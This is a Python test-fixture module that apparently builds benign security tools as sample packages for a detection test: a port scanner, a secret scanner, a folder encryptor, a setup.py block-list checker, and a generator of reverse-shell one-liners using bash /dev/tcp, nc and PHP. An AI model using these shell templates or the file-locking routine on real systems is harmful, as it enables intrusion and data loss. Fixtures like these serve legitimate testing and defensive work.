"""Honest tools of people who look after security, or learn it."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

from tests.campaigns.forge import Built, Shapes
from tests.campaigns.honest.small import small

__all__ = ["SECURITY"]

SECURITY = Shapes()


@SECURITY
def port_scanner() -> Built:
    """A port scanner and banner reader for students"""
    return small(
        "tinyscan-edu",
        """\
import argparse, socket
from concurrent.futures import ThreadPoolExecutor


def probe(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(0.5)
    try:
        s.connect((host, port))
        s.send(b'HEAD / HTTP/1.0\\r\\n\\r\\n')
        return port, s.recv(200)
    except OSError:
        return None
    finally:
        s.close()


def main():
    p = argparse.ArgumentParser()
    p.add_argument('host')
    a = p.parse_args()
    with ThreadPoolExecutor(100) as pool:
        for hit in filter(None, pool.map(lambda port: probe(a.host, port), range(1, 1025))):
            print(*hit)
""",
    )


@SECURITY.limited("the text of a shell one-liner is the text of a shell one-liner")
def reverse_shell_cheatsheet() -> Built:
    """A penetration tester's generator of one-line shells, as text for others to copy"""
    return small(
        "shellgen-ctf",
        """\
import argparse, base64

TEMPLATES = {
    'bash': 'bash -i >& /dev/tcp/{ip}/{port} 0>&1',
    'nc': 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ip} {port} >/tmp/f',
    'php': "php -r '$sock=fsockopen(\\"{ip}\\",{port});exec(\\"sh <&3 >&3 2>&3\\");'",
}


def main():
    p = argparse.ArgumentParser(description='Generate reverse shell one-liners for CTFs')
    p.add_argument('ip')
    p.add_argument('port', type=int)
    p.add_argument('--kind', choices=TEMPLATES, default='bash')
    p.add_argument('--base64', action='store_true')
    a = p.parse_args()
    text = TEMPLATES[a.kind].format(ip=a.ip, port=a.port)
    print(base64.b64encode(text.encode()).decode() if a.base64 else text)
""",
        poor=False,
        Summary="Reverse shell one-liners for CTF players",
    )


@SECURITY
def secret_scanner() -> Built:
    """Looks for secrets in the user's own tree and prints where they stand"""
    return small(
        "leakfinder",
        """\
import re, sys
from pathlib import Path

PATTERNS = {
    'aws': re.compile(r'AKIA[0-9A-Z]{16}'),
    'github': re.compile(r'gh[pousr]_[A-Za-z0-9]{36}'),
    'slack': re.compile(r'xox[baprs]-[0-9A-Za-z-]{10,48}'),
    'private key': re.compile(r'-----BEGIN (RSA|EC|OPENSSH) PRIVATE KEY-----'),
    'discord webhook': re.compile(r'https://discord\\.com/api/webhooks/\\d+/[\\w-]+'),
    'pypi': re.compile(r'pypi-AgEIcHlwaS5vcmc[\\w-]{50,}'),
}
FILES = ('.env', '.npmrc', '.pypirc', '.netrc', '.git-credentials', 'id_rsa', '.aws/credentials', '.docker/config.json', '.kube/config')


def scan(root):
    for path in Path(root).rglob('*'):
        if path.is_file() and path.stat().st_size < 1_000_000:
            text = path.read_text(errors='ignore')
            for name, pattern in PATTERNS.items():
                for m in pattern.finditer(text):
                    yield path, name, text.count('\\n', 0, m.start()) + 1


def main():
    found = 0
    for path, name, line in scan(sys.argv[1] if len(sys.argv) > 1 else '.'):
        print(f'{path}:{line}: {name}')
        found += 1
    sys.exit(bool(found))
""",
        poor=False,
    )


@SECURITY
def encryption_tool() -> Built:
    """Encrypts the files of a folder with the user's password"""
    return small(
        "lockbox-files",
        """\
import argparse, base64, getpass, os
from pathlib import Path
from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC


def key(password, salt):
    return base64.urlsafe_b64encode(PBKDF2HMAC(hashes.SHA256(), 32, salt, 480000).derive(password.encode()))


def lock(folder, password):
    for path in Path(folder).rglob('*'):
        if path.is_file() and path.suffix != '.locked':
            salt = os.urandom(16)
            path.with_suffix(path.suffix + '.locked').write_bytes(salt + Fernet(key(password, salt)).encrypt(path.read_bytes()))
            path.unlink()


def main():
    p = argparse.ArgumentParser()
    p.add_argument('folder')
    a = p.parse_args()
    lock(a.folder, getpass.getpass())
""",
        poor=False,
    )


@SECURITY
def xor_cipher_course() -> Built:
    """A crypto course's toy ciphers"""
    return small(
        "toyciphers",
        """\
import base64, codecs, random


def xor(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def caesar(text, n):
    return ''.join(chr((ord(c) - 97 + n) % 26 + 97) if c.islower() else c for c in text)


def rot13(text):
    return codecs.encode(text, 'rot13')


def encode(text, key):
    return base64.b64encode(xor(text.encode(), key)).decode()


def decode(text, key):
    return xor(base64.b64decode(text), key).decode()
""",
    )


@SECURITY
def honeypot_lab() -> Built:
    """A teaching tool that recognises virtual machines"""
    return small(
        "amivm",
        """\
import platform, subprocess, uuid

MARKS = {'VirtualBox': '08:00:27', 'VMware': '00:0c:29'}


def detect():
    mac = ':'.join(f'{(uuid.getnode() >> s) & 255:02x}' for s in range(40, -1, -8))
    for name, prefix in MARKS.items():
        if mac.startswith(prefix):
            return name
    out = subprocess.run(['systemd-detect-virt'], capture_output=True, text=True).stdout.strip()
    return None if out == 'none' else out


if __name__ == '__main__':
    print(platform.node(), detect() or 'no virtual machine')
""",
    )


@SECURITY
def pip_audit_wrapper() -> Built:
    """Downloads packages and looks for hostile words in their setup.py"""
    return small(
        "setupguard",
        """\
import io, json, re, sys, tarfile, urllib.request

BAD = [rb'exec\\(base64', rb'discord\\.com/api/webhooks', rb'powershell', rb'CryptUnprotectData', rb'os\\.system', rb'subprocess\\.Popen', rb'169\\.254\\.169\\.254']


def check(name):
    meta = json.load(urllib.request.urlopen(f'https://index.example.org/pypi/{name}/json'))
    for f in meta['urls']:
        if f['filename'].endswith('.tar.gz'):
            tar = tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen(f['url']).read()))
            for m in tar.getmembers():
                if m.name.endswith('setup.py'):
                    text = tar.extractfile(m).read()
                    yield from (p.decode() for p in BAD if re.search(p, text))


def main():
    print(list(check(sys.argv[1])))
""",
    )


@SECURITY
def wifi_viewer() -> Built:
    """Shows the saved wireless passwords of the user's own computer on the screen"""
    return small(
        "wifipass-show",
        """\
import re, subprocess


def profiles():
    out = subprocess.check_output(['netsh', 'wlan', 'show', 'profiles'], text=True)
    return re.findall(r'All User Profile\\s*: (.*)', out)


def password(name):
    out = subprocess.check_output(['netsh', 'wlan', 'show', 'profile', name, 'key=clear'], text=True)
    m = re.search(r'Key Content\\s*: (.*)', out)
    return m and m.group(1)


def main():
    for name in profiles():
        print(f'{name:30} {password(name)}')
""",
    )


@SECURITY
def env_dump_debug() -> Built:
    """Prints the environment for a bug report that the user posts"""
    return small(
        "sysreport-mini",
        """\
import getpass, json, os, platform, socket, sys


def report():
    return {'host': socket.gethostname(), 'user': getpass.getuser(), 'python': sys.version, 'platform': platform.platform(), 'cwd': os.getcwd(), 'env': dict(os.environ)}


def main():
    print(json.dumps(report(), indent=2))
""",
    )


@SECURITY
def remote_repl() -> Built:
    """A debug console in a running process, on loopback"""
    return small(
        "debugport",
        """\
import code, contextlib, io, socketserver, threading


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        console = code.InteractiveConsole(self.server.namespace)
        for line in self.rfile:
            out = io.StringIO()
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
                console.push(line.decode().rstrip())
            self.wfile.write(out.getvalue().encode())


def start(namespace, port=4444):
    server = socketserver.ThreadingTCPServer(('127.0.0.1', port), Handler)
    server.namespace = namespace
    threading.Thread(target=server.serve_forever, daemon=True).start()
""",
    )
